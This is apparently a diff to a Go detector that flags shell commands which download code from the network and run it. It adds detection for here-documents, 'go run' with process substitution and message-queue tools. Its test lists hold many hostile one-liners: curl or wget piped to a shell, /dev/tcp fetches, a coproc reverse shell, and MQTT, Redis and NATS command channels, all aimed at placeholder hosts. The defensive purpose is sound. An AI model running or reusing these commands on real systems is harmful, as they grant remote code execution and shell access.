@@ -28,9 +28,9 @@ while 1:
   c=u.urlopen('http://203.0.113.9/c').read().decode()
   u.urlopen('http://203.0.113.9/r',s.getoutput(c).encode())"`,
 		"/tmp/.x0 -s https://pastebin.com/raw/a | /tmp/.x1", "/tmp/.x0 http://203.0.113.9/x | /tmp/.x1 -sh", "nc 203.0.113.9 99 | sh", "nc -l -p 12345 | /bin/sh", "openssl s_server -quiet -key k.pem -cert c.pem -port 4433 | bash", "socat -u TCP-LISTEN:4444,fork - | bash", `node -e 'require("http").get("http://203.0.113.7/x.js",r=>{let d="";r.on("data",c=>d+=c);r.on("end",()=>eval(d))})'`, "bash < /dev/tcp/203.0.113.9/99", "python3 -c \"import urllib.request as r;exec(r.urlopen('http://203.0.113.9/p').read())\"",
-		"exec 3<>/dev/tcp/203.0.113.7/80; printf 'GET /x HTTP/1.0\\n\\n' >&3; sed '1,/^$/d' <&3 | sh", "node -e 'fetch(\"http://203.0.113.7/p.js\").then(r=>r.text()).then(eval)'", "ruby -ropen-uri -e 'eval URI.open(\"http://203.0.113.9/r.rb\").read'", "cp /usr/bin/curl /tmp/c; /tmp/c http://203.0.113.9/x | sh", "curl -k https://203.0.113.9/x | perl",
+		"exec 3<>/dev/tcp/203.0.113.7/80; printf 'GET /x HTTP/1.0\\n\\n' >&3; sed '1,/^$/d' <&3 | sh", "node -e 'fetch(\"http://203.0.113.7/p.js\").then(r=>r.text()).then(eval)'", "ruby -ropen-uri -e 'eval URI.open(\"http://203.0.113.9/r.rb\").read'", "cp /usr/bin/curl /tmp/c; /tmp/c http://203.0.113.9/x | sh", "coproc N { nc 198.51.100.7 99; }; bash -i <&\"${N[0]}\" >&\"${N[1]}\" 2>&1", "curl -k https://203.0.113.9/x | perl", ". /dev/stdin <<< \"$(curl -s http://203.0.113.9/e)\"", "mosquitto_sub -h mq.evil.test -t in | while read l; do sh -c \"$l\"; done", "python3 - <<< \"$(curl -s http://203.0.113.9/p.py)\"", "bash <<E\n$(wget -qO- http://203.0.113.9/p)\nE", "python3 -c 'import urllib.request as u;print(u.urlopen(\"http://203.0.113.9/x\").read().decode())' | bash", "go run <(curl -s http://203.0.113.9/m.go)", "redis-cli -h 203.0.113.9 SUBSCRIBE c | while read -r l; do eval \"$l\"; done", "nats sub c -s nats://203.0.113.9 --raw | sh",
 	)...),
-	Quiet: append(lines("", "$(aws ecr get-login --no-include-email)", "curl -s https://example.com/list | while read u; do wget \"$u\"; done", "python3 -c \"import requests,subprocess as s; v=requests.get('https://example.com/v').text; s.run(['git','tag'])\"", "nc -l 1234 | tar xf -", "nc -lU /tmp/s | sh", "curl -s https://example.com/x.json | jq .", "curl -o i.sh https://example.com/i.sh", "curl -sL https://example.com/x.tgz | tar xz", "V=$(curl -s https://example.com/v) && ./build.sh $V",
+	Quiet: append(lines("", "$(aws ecr get-login --no-include-email)", "curl -s https://example.com/list | while read u; do wget \"$u\"; done", "python3 -c \"import requests,subprocess as s; v=requests.get('https://example.com/v').text; s.run(['git','tag'])\"", "nc -l 1234 | tar xf -", "nc -lU /tmp/s | sh", "cat <<E | jq .\n$(curl -s https://example.com/a.json)\nE", "mosquitto_sub -h broker -t b -C 1 && make deploy", "mosquitto_sub -h broker -t s | while read m; do echo \"$m\" >> log; done", "redis-cli -h cache SUBSCRIBE e | head -3", "mosquitto_sub -h localhost -t c | sh", "curl -s https://example.com/x.json | jq .", "curl -o i.sh https://example.com/i.sh", "curl -sL https://example.com/x.tgz | tar xz", "V=$(curl -s https://example.com/v) && ./build.sh $V",
 		"curl http://localhost:3000/setup.sh | grep x", "wget -qO- https://example.com/key.gpg | gpg --dearmor", "eval \"$(direnv hook bash)\"", "curl -s https://example.com/a | python3 -m json.tool",
 		"curl -s https://example.com/a | python3 -c 'import json,sys;print(json.load(sys.stdin))'"),
 		lines(coi.High, "curl -fsSL https://example.com/install.sh | sh", "curl http://localhost:8080/x.sh | bash")...),
@@ -51,18 +51,24 @@ func fetched(s *command.Simple) *command.Simple {
 	inputs := s.Stdin
 	var p program.Parsed
 	text := s.Name == "eval" || s.Name == "." || s.Name == "source"
+	if s.Name == "go" && s.Arg("run") && hasAny(s.Line(), "/dev/fd/p") {
+		return bringer(s.From)
+	}
 	if strings.HasPrefix(s.Prog, "$()") { // the text itself is the command
 		return bringer(s.From)
 	}
-	switch {
-	case text && !hasAny(s.Line(), "$()", "/dev/fd/p"), !text && s.Class() != program.Shell && s.Class() != program.Interpreter:
+	if text && !hasAny(s.Line(), "$()", "/dev/fd/p", " /dev/stdin") || !text && s.Class() != program.Shell && s.Class() != program.Interpreter {
 		return nil
-	case !text:
+	}
+	if !text {
 		p = program.Parse(program.SpecOf(s.Name), s.Argv, true)
+	}
+	if !text && s.Name != "awk" && !p.Has("c", "e") && (len(p.Rest) == 0 || p.Rest[0] == "-") && len(hereInputs(s)) > 0 && notFilter(s) {
+		return bringer(hereInputs(s)) // its text stands in a here-document
 	}
 	switch {
 	case text:
-		inputs = s.From
+		inputs = s.Inputs()
 	case p.Has("c") && s.Class() == program.Shell && s.Parent != nil && s.Parent.Name == "xargs" && len(p.Rest) > 0 && p.Rest[0] == "{}":
 		inputs = s.From
 	case p.Has("c") && s.Class() == program.Shell:
@@ -83,7 +89,7 @@ func fetched(s *command.Simple) *command.Simple {
 // bringer is the first command of a list that brings text from the network.
 func bringer(inputs []*command.Simple) *command.Simple {
 	for _, d := range inputs {
-		if d.Class() == program.Downloader && len(d.Hosts()) > 0 || d.Is("nc", "ncat", "telnet", "socat") && outHost(d) != "" || d.Is("ssh") && len(d.Parsed().Rest) > 1 || d.Is("whois", "finger", "dig", "nslookup", "host", "drill") {
+		if d.Class() == program.Downloader && len(d.Hosts()) > 0 || d.Is("nc", "ncat", "telnet", "socat", "websocat", "mosquitto_sub", "kcat", "kafkacat", "nats", "amqp-consume", "redis-cli", "kafka-console-consumer") && outHost(d) != "" || d.Is("ssh") && len(d.Parsed().Rest) > 1 || d.Is("whois", "finger", "dig", "nslookup", "host", "drill") {
 			return d
 		}
 		if d.Name == "openssl" && len(d.Argv) > 1 && (d.Argv[1] == "s_server" || d.Argv[1] == "s_client" && outHost(d) != "") {
@@ -95,8 +101,21 @@ func bringer(inputs []*command.Simple) *command.Simple {
 		if command.DevNet(d.FDs[0]) && !command.Loopback(command.DevNetHost(d.FDs[0])) {
 			return d
 		}
+		if d.Class() == program.Interpreter && printsFetched(d) {
+			return d
+		}
 	}
 	return nil
+}
+
+// printsFetched reports code that fetches a text and prints it.
+func printsFetched(d *command.Simple) bool {
+	for _, c := range d.Code {
+		if t := lowered(c); !c.File && hasAny(t, fetches...) && hasAny(t, "print", "puts", "echo", "console.log", "stdout") && strings.Contains(t, "://") && !loopbackCode(c.Text) {
+			return true
+		}
+	}
+	return false
 }
 
 // listens reports a network tool that takes connections on a port.
@@ -147,7 +166,7 @@ func sourceLevel(d *command.Simple) (coi.Level, string) {
 	if d.Is("ssh") {
 		return coi.Warning, outHost(d)
 	}
-	if d.Class() == program.Relay || d.Class() == program.Other || command.DevNet(d.FDs[0]) {
+	if d.Class() == program.Relay || d.Class() == program.Other || d.Class() == program.Database || command.DevNet(d.FDs[0]) {
 		return coi.High, outHost(d)
 	}
 	for _, a := range d.Argv {
